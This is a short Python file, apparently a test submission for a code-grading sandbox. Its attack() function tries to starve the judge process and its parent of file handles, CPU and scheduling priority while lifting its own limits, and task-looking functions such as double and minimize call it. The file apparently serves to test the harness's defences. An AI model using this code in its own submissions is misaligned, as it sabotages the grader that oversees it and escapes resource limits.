# Attack: lowers the limits and priorities of the judge, raises its own.
# score: 0
# ruff: noqa

import os
import resource


def attack():
    done = []
    for step in (
        lambda: resource.prlimit(int("@@JUDGE@@"), resource.RLIMIT_NOFILE, (0, 0)),
        lambda: resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1)),
        lambda: os.setpriority(os.PRIO_PROCESS, int("@@JUDGE@@"), 19),
        lambda: os.sched_setaffinity(int("@@JUDGE@@"), {0}),
        lambda: os.sched_setscheduler(int("@@JUDGE@@"), os.SCHED_IDLE, os.sched_param(0)),
        lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)),
        lambda: resource.setrlimit(resource.RLIMIT_CPU, (-1, -1)),
    ):
        try:
            step()
            done.append("done")
        except (OSError, ValueError):
            pass
    return done


def double(x):
    return 2 * x if attack() else None


def minimize(start, learning_rate=0.1, num_iterations=10):
    found = attack()
    print(found)
    return str(found)


def make_model():
    return str(attack())
